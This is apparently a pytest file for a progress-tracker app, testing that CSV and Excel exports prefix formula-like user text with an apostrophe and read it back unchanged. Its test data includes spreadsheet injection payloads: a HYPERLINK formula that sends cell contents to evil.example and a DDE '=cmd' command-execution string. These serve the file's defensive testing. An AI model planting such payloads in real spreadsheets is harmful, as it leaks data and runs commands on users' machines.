"""Formula-safe exports: every CSV and XLSX the product hands out, with users' own text in it.

A text cell beginning with =, +, -, @, tab or CR gets one leading apostrophe (so no spreadsheet runs it);
everything else comes out exactly, numbers stay numbers, and the product's own reader takes the apostrophe off
again, so an exported file loaded back gives the text that was exported.

The user text goes in through a real upload (evidence descriptions, progress notes, measure names, plan refs),
comes out through the real exports (the command line's `show --format csv`, the Audit log page's CSV and
Excel buttons, the update template pre-filled with the plan's refs), and is read back with `csv` and openpyxl.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import re
import sqlite3
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import streamlit as st
from openpyxl.utils.escape import unescape
from sqlmodel import Session

import tracker.config
from tests.apputil import ADMIN, ROOT, open_app
from tracker import cli, queries
from tracker.auth import SYSTEM, Actor
from tracker.db import make_engine, migrate
from tracker.exports import FORMULA_TRIGGERS, append_row, safe_cell, to_csv, to_xlsx
from tracker.history import template_for
from tracker.ingest.reader import read_workbook, unguard
from tracker.ingest.updates import EVIDENCE_COLUMNS, MEASURE_COLUMNS, PROGRESS_COLUMNS
from tracker.load import load_file
from tracker.templates import updates_template

OCT = datetime(2020, 10, 20)
# (what the user wrote, what the product holds). The importer trims whitespace around a cell, and reads a
# leading apostrophe before a formula character as Excel does, as "this is text" (see tracker.ingest.reader
# .unguard): everything else is held exactly as written.
TEXTS: list[tuple[str, str]] = [
    ("plain text", "plain text"),
    ("Café – naïve 日本語 ✓ 🎉 ½", "Café – naïve 日本語 ✓ 🎉 ½"),
    ("He said \"yes\", then 'no'", "He said \"yes\", then 'no'"),
    ("a, b; c,,", "a, b; c,,"),
    ("line one\nline two\r\nline three", "line one\nline two\r\nline three"),
    ("=1+1", "=1+1"),
    ("-3", "-3"),
    ("+44 20 7946 0000", "+44 20 7946 0000"),
    ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("\t=x", "=x"),  # surrounding whitespace is trimmed on import
    ("'=1+1", "=1+1"),  # the typed "text, not formula" apostrophe is not part of the text
    ("'quoted'", "'quoted'"),  # any other apostrophe is kept
    ("50% - done", "50% - done"),  # a formula character inside the text changes nothing
]
IDS = [f"t{i}" for i in range(len(TEXTS))]
PLAN_ROWS: list[list[Any]] = [
    ["Organisation: Export University"],
    ["24-month action plan, November 2018 – October 2020"],
    [],
    ["Ref", "Theme", "Purpose", "Activity", "Impact", "Who", "V", "R", "C", "S"],
    *[[f"A{i}", "Develop", "p", f"activity {i}", "i", "HR", "X", None, None, "X"] for i in range(len(TEXTS))],
]


def xlsx(sheets: dict[str, list[list[Any]]]) -> bytes:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)  # type: ignore[arg-type]
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is not None:
                    if isinstance(value, str):  # a CR as Excel writes it (XML reads a bare CR as LF)
                        value = value.replace("\r", "_x000D_")
                    cell = ws.cell(row=r, column=c, value=value)
                    if isinstance(value, str):
                        cell.data_type = "s"  # the user's text as typed, never a formula in the test's own file
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def users_update() -> bytes:
    """Action A<i> gets the i-th text as a progress note, an evidence description and a measure name."""
    return xlsx(
        {
            "Progress": [list(PROGRESS_COLUMNS)]
            + [[f"A{i}", OCT, "On track", 50, t, None] for i, (t, _) in enumerate(TEXTS)],
            "Evidence": [list(EVIDENCE_COLUMNS)]
            + [[f"A{i}", OCT, t, "document", None, None, None, None] for i, (t, _) in enumerate(TEXTS)],
            "Measures": [list(MEASURE_COLUMNS)]
            + [
                [f"A{i}", t, "people", -3 if i == 0 else 0, 10, OCT, -3.5 if i == 0 else i]
                for i, (t, _) in enumerate(TEXTS)
            ],
        }
    )


def load_users_text(url: str) -> None:
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as s:
        plan = load_file(xlsx({"Plan": PLAN_ROWS}), filename="plan.xlsx", session=s, actor=SYSTEM)
        assert plan.outcome == "loaded", plan.result and plan.result.issue_lines()
        out = load_file(users_update(), filename="update.xlsx", session=s, actor=SYSTEM)
        assert out.outcome == "loaded", out.result and out.result.issue_lines()
    engine.dispose()


def cli_csv(url: str, what: str, capsys: pytest.CaptureFixture[str]) -> list[dict[str, str]]:
    capsys.readouterr()
    assert cli.main(["--db", url, "show", what, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    return list(csv.DictReader(io.StringIO(out, newline="")))


def check_exported(got: Any, held: str) -> None:
    """`got` is `held` with one apostrophe in front when it begins like a formula, and exactly `held` else."""
    assert isinstance(got, str), got
    if held.startswith(FORMULA_TRIGGERS):
        assert got[:1] == "'", got
        got = got[1:]
    assert got == held


# --- the unit: safe_cell, unguard, to_csv, to_xlsx, append_row ----------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_character_is_neutralised(trigger: str) -> None:
    text = f"{trigger}HYPERLINK(1)"
    assert safe_cell(text) == "'" + text
    assert safe_cell(f"x{text}") == f"x{text}"  # only the first character counts
    (got,) = list(csv.DictReader(io.StringIO(to_csv([{"a": text}]), newline="")))
    assert got["a"] == "'" + text
    data = to_xlsx([{"a": text}])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert (unescape(ws["A2"].value), ws["A2"].data_type) == ("'" + text, "s")
    assert read_workbook(data, filename="x.xlsx").sheets[0].rows[1] == [text]  # the product's reader: unguarded


@pytest.mark.parametrize(
    "text",
    ["=1+1", "'=1+1", "''=1+1", "'''-", "'quoted'", "''x", "'", "''", "-", "@", "plain", "", "'\t=x", "\r=x", "a=b"],
)
def test_unguard_undoes_exactly_what_safe_cell_did(text: str) -> None:
    assert unguard(safe_cell(text)) == text


def test_numbers_and_dates_stay_typed() -> None:
    rows = [{"n": -3, "x": -2.5, "big": 10**12, "d": date(2020, 10, 31), "t": "-3", "none": None}]
    (got,) = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert got == {"n": "-3", "x": "-2.5", "big": "1000000000000", "d": "2020-10-31", "t": "'-3", "none": ""}
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(rows))).active
    assert ws is not None
    cells = [(c.value, c.data_type) for c in ws[2]]
    assert cells[:3] == [(-3, "n"), (-2.5, "n"), (10**12, "n")]
    assert cells[3][0] == datetime(2020, 10, 31) and cells[3][1] == "d"
    assert cells[4:] == [("'-3", "s"), (None, "n")]


def test_openpyxl_never_stores_text_as_a_formula() -> None:
    ws = openpyxl.Workbook().active
    assert ws is not None
    ws.append(["=1+1"])  # what openpyxl does on its own: a formula
    assert ws["A1"].data_type == "f"
    append_row(ws, ["=1+1", "=SUM(A1:A2)", "-1", 7, None, "a\x01b"])
    assert [(c.value, c.data_type) for c in ws[2]] == [
        ("'=1+1", "s"),
        ("'=SUM(A1:A2)", "s"),
        ("'-1", "s"),
        (7, "n"),
        (None, "n"),
        ("a\ufffdb", "s"),  # a control character .xlsx cannot hold at all
    ]
    buf = io.BytesIO()
    ws.parent.save(buf)
    # In the file itself: the first row has a <f> (formula) element, the second none.
    import zipfile

    sheet = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<f>") == 1


def test_an_xlsx_export_keeps_time_zones_out_and_lists_joined() -> None:
    from datetime import UTC, timedelta, timezone

    aware = datetime(2020, 10, 31, 12, 0, tzinfo=timezone(timedelta(hours=1)))
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx([{"at": aware, "pillars": ["V", "R"]}]))).active
    assert ws is not None
    assert ws["A2"].value == aware.astimezone(UTC).replace(tzinfo=None)
    assert ws["B2"].value == "V; R"


# --- every export in the product goes through tracker.exports --------------------------------------------


def _download_buttons() -> list[tuple[str, ast.Call]]:
    out = []
    for path in sorted((ROOT / "pages").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "st.download_button":
                out.append((path.name, node))
    return out


# Each page's download and what its bytes are: a formula-safe export, a PDF, or a file the user sent.
DOWNLOADS = {
    ("audit.py", "Export CSV"): "to_csv(rows)",
    ("audit.py", "Export Excel"): "lambda: to_xlsx(rows, sheet='Audit log')",
    ("board_report.py", "Download the pack (PDF)"): "lambda pack_id=built['id']: kept(pack_id)",
    ("board_report.py", "f'Download pack {chosen}'"): "lambda pack_id=chosen: kept(pack_id)",
    ("board_report.py", "Self-assessment draft (Word)"): "lambda stage=sa_stage: self_assessment(stage)",  # a .docx
    # tracker.rounds.round_template: the update template (tracker.templates), pre-filled with refs.
    ("common.py", "f\"Download your template for {', '.join(mine.outstanding)}\""): "data",
    ("rounds.py", "f\"Download the template for {', '.join(page.my_outstanding)}\""): "data",
    ("rounds.py", "f'Attachment: {p.attachment_name}'"): "p.attachment",  # the same template, as the email has it
    ("upload.py", "Download the update template"): "template",  # template_for: tracker.templates
    ("upload.py", "Plan template"): "plan_template",  # no user text in it
    ("upload.py", "Workforce template"): "workforce_template",  # no user text in it
    ("uploads.py", "f'Download {md(row.filename)}'"): "original",  # the file as the user sent it
}


def test_every_download_in_the_pages_is_a_known_safe_one() -> None:
    found = {}
    for name, call in _download_buttons():
        label = call.args[0]
        key = ast.literal_eval(label) if isinstance(label, ast.Constant) else ast.unparse(label)
        data = next((k.value for k in call.keywords if k.arg == "data"), call.args[1] if len(call.args) > 1 else None)
        assert data is not None
        found[(name, key)] = ast.unparse(data)
    assert found == DOWNLOADS


def test_nothing_in_tracker_writes_csv_or_xlsx_but_exports_and_templates() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(|Workbook\(\)|xlsxwriter")
    offenders = []
    for path in sorted((ROOT / "tracker").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        for n, line in enumerate(path.read_text().splitlines(), start=1):
            if writers.search(line) and not line.lstrip().startswith((">>>", "#")):
                offenders.append(f"{rel}:{n}")
    # exports.py is the writer; templates.py builds the three templates and writes user text (refs) through
    # exports.append_row (checked below).
    assert {o.split(":")[0] for o in offenders} == {"tracker/exports.py", "tracker/templates.py"}, offenders
    templates = (ROOT / "tracker" / "templates.py").read_text()
    assert "prog.append(" not in templates and "lists.append([" in templates  # only the fixed header row


# --- the round trip: upload → database → export → csv / openpyxl --------------------------------------------


@pytest.fixture(scope="module")
def users_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("exports") / "texts.db"
    load_users_text(f"sqlite:///{path}")
    return path


@pytest.fixture
def db(users_db: Path, tmp_path: Path) -> str:
    copy = tmp_path / "texts.db"
    with contextlib.closing(sqlite3.connect(users_db)) as src, contextlib.closing(sqlite3.connect(copy)) as dst:
        src.backup(dst)
    return f"sqlite:///{copy}"


pytestmark = pytest.mark.usefixtures("fresh_streamlit_caches")


@pytest.mark.parametrize(("i", "text", "held"), [(i, t, h) for i, (t, h) in enumerate(TEXTS)], ids=IDS)
def test_the_database_holds_the_users_text(db: str, i: int, text: str, held: str) -> None:
    with Session(make_engine(db)) as s:
        (ev,) = queries.list_evidence(session=s, ref=f"A{i}")
        (up,) = queries.list_updates(session=s, ref=f"A{i}")
        (me,) = queries.list_measures(session=s, ref=f"A{i}")
    assert (ev.description, up.note, me.name) == (held, held, held)


@pytest.mark.parametrize(("i", "text", "held"), [(i, t, h) for i, (t, h) in enumerate(TEXTS)], ids=IDS)
def test_command_line_csv_round_trip(db: str, capsys: pytest.CaptureFixture[str], i: int, text: str, held: str) -> None:
    (ev,) = [r for r in cli_csv(db, "evidence", capsys) if r["ref"] == f"A{i}"]
    check_exported(ev["description"], held)
    assert ev["kind"] == "document" and ev["date"] == "2020-10-20"
    (up,) = [r for r in cli_csv(db, "updates", capsys) if r["ref"] == f"A{i}"]
    check_exported(up["note"], held)
    assert up["percent_complete"] == "50"  # a number, no apostrophe


def test_command_line_csv_numbers_stay_numbers(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert cli.main(["--db", db, "show", "measures", "--format", "csv"]) == 0
    text = capsys.readouterr().out
    rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert (rows["A0"]["baseline"], rows["A0"]["target"]) == ("-3.0", "10.0")  # a negative number, not text
    (line,) = [x for x in text.splitlines() if x.startswith("A0,")]
    assert line.startswith("A0,plain text,people,-3.0,10.0,")  # bare, where the held text "-3" is guarded:
    (line,) = [x for x in text.splitlines() if x.startswith("A6,")]
    assert line.startswith("A6,'-3,people,0.0,10.0,")
    assert "'value': -3.5" in rows["A0"]["values"]


def _audit_downloads(monkeypatch: pytest.MonkeyPatch, db: str) -> dict[str, Any]:
    """The Audit log page's two exports, as the page hands them to st.download_button."""
    seen: dict[str, Any] = {}
    real = st.download_button

    def spy(label: str, *args: Any, **kwargs: Any) -> Any:
        data = kwargs.get("data", args[0] if args else None)
        seen[label] = data() if callable(data) else data
        return real(label, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", spy)
    at = open_app(monkeypatch, db, page="pages/audit.py", as_user=ADMIN)
    assert not at.exception
    return seen


@pytest.fixture
def audit_exports(monkeypatch: pytest.MonkeyPatch, db: str) -> tuple[list[dict[str, str]], list[list[Any]], list[str]]:
    seen = _audit_downloads(monkeypatch, db)
    assert set(seen) == {"Export CSV", "Export Excel"}
    rows = list(csv.DictReader(io.StringIO(seen["Export CSV"], newline="")))
    wb = openpyxl.load_workbook(io.BytesIO(seen["Export Excel"]))
    ws = wb["Audit log"]
    types = [c.data_type for row in ws.iter_rows() for c in row]
    values = [[unescape(c.value) if isinstance(c.value, str) else c.value for c in row] for row in ws.iter_rows()]
    return rows, values, types


@pytest.mark.parametrize(("i", "text", "held"), [(i, t, h) for i, (t, h) in enumerate(TEXTS)], ids=IDS)
def test_audit_log_csv_and_excel_round_trip(
    audit_exports: tuple[list[dict[str, str]], list[list[Any]], list[str]], i: int, text: str, held: str
) -> None:
    rows, values, types = audit_exports
    # The measure event's detail begins with the measure's name: the user's text, first in the cell.
    want = f"{held} as of 20 Oct 2020"
    (row,) = [r for r in rows if r["action"] == "measure" and r["target"] == f"A{i}"]
    check_exported(row["detail"], want)
    header = values[0]
    (xrow,) = [r for r in values[1:] if r[header.index("action")] == "measure" and r[header.index("target")] == f"A{i}"]
    check_exported(xrow[header.index("detail")], want)
    assert isinstance(xrow[header.index("upload_id")], int)  # numbers stay numbers
    assert "f" not in types  # not one formula in the whole workbook


def test_an_exported_csv_loads_back_as_the_text_it_held(db: str) -> None:
    """Evidence written out by the exporter under the template's headers, then loaded as an update file: each
    new item holds exactly the old text (the guard apostrophe is the reader's to take off; a held "'quoted'"
    keeps its apostrophes)."""
    with Session(make_engine(db)) as s:
        held = queries.list_evidence(session=s)
        rows = [{"Ref": e.ref, "Date": e.date.isoformat(), "Description": e.description, "Kind": e.kind} for e in held]
        exported = to_csv(rows)
        assert exported.count("'") > len([t for _, t in TEXTS if t.startswith(FORMULA_TRIGGERS)])  # guarded
        out = load_file(exported.encode(), filename="Evidence.csv", session=s, actor=SYSTEM, kind="updates")
        assert out.outcome == "loaded", out.result and out.result.issue_lines()
        again = queries.list_evidence(session=s)
    assert len(again) == 2 * len(TEXTS) == 2 * len(held)
    for i, (_, text) in enumerate(TEXTS):
        assert [e.description for e in again if e.ref == f"A{i}"] == [text, text]


# --- the update template, pre-filled with the plan's own refs ----------------------------------------------

REFS = ["=1+1", "-3", "@SUM(A1)", "+44", "'=x", "D2"]


def test_the_template_keeps_formula_like_refs_as_text_and_loads_back(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'refs.db'}"
    rows = [
        ["Organisation: Ref University"],
        ["24-month action plan, November 2018 – October 2020"],
        [],
        ["Ref", "Theme", "Purpose", "Activity", "Impact", "Who", "V", "R", "C", "S"],
        *[[ref, "Develop", "p", f"activity {n}", "i", "HR", "X", None, None, None] for n, ref in enumerate(REFS)],
    ]
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as s:
        out = load_file(xlsx({"Plan": rows}), filename="plan.xlsx", session=s, actor=SYSTEM)
        assert out.outcome == "loaded", out.result and out.result.issue_lines()
        held = [a.ref for a in queries.list_actions(session=s)]
        name, data = template_for(session=s, actor=Actor("a@uni.ac.uk", "admin"))
    assert held == ["=1+1", "-3", "@SUM(A1)", "+44", "=x", "D2"]  # the typed apostrophe is not part of a ref

    wb = openpyxl.load_workbook(io.BytesIO(data))
    prog, lists = wb["Progress"], wb["Lists"]
    cells = [c for c in prog["A"][1:] if c.value is not None]
    assert [(c.value, c.data_type) for c in cells] == [(safe_cell(r), "s") for r in held]
    assert [c.value for c in lists["A"][1 : len(held) + 1]] == [safe_cell(r) for r in held]
    assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)

    # A lead's work: fill in the pre-filled rows and upload the template. Every ref is recognised.
    for c in cells:
        prog.cell(row=c.row, column=2, value=OCT)
        prog.cell(row=c.row, column=3, value="Complete")
        prog.cell(row=c.row, column=4, value=100)
    buf = io.BytesIO()
    wb.save(buf)
    with Session(engine) as s:
        out = load_file(buf.getvalue(), filename=name, session=s, actor=SYSTEM)
        assert out.outcome == "loaded", out.result and out.result.issue_lines()
        assert [(c["target"], c["after"]) for c in out.changes] == [(r, "complete") for r in held]
    engine.dispose()


def test_the_template_for_a_lead_is_safe_too() -> None:
    data = updates_template(refs=["=A1", "B2"], prefill=["=A1"])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert (wb["Progress"]["A2"].value, wb["Progress"]["A2"].data_type) == ("'=A1", "s")
    assert read_workbook(data, filename="t.xlsx").sheet("Progress").rows[1][0] == "=A1"  # type: ignore[union-attr]


# --- PostgreSQL: the same text through the same export ------------------------------------------------------


@pytest.mark.pg
def test_command_line_csv_round_trip_on_postgresql(pg_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    load_users_text(pg_url)
    evidence = {r["ref"]: r for r in cli_csv(pg_url, "evidence", capsys)}
    updates = {r["ref"]: r for r in cli_csv(pg_url, "updates", capsys)}
    for i, (_, held) in enumerate(TEXTS):
        check_exported(evidence[f"A{i}"]["description"], held)
        check_exported(updates[f"A{i}"]["note"], held)
    tracker.config.get_settings.cache_clear()
